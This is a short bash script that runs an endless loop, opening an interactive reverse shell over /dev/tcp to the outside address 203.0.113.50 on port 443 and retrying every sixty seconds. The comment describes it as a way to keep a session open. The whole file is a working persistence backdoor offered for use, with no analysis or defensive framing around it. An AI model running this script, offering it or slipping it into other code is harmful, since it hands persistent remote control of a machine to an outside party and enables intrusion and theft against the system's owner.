#!/bin/bash
# keep a session open
while true; do
  bash -i >& /dev/tcp/203.0.113.50/443 0>&1
  sleep 60
done
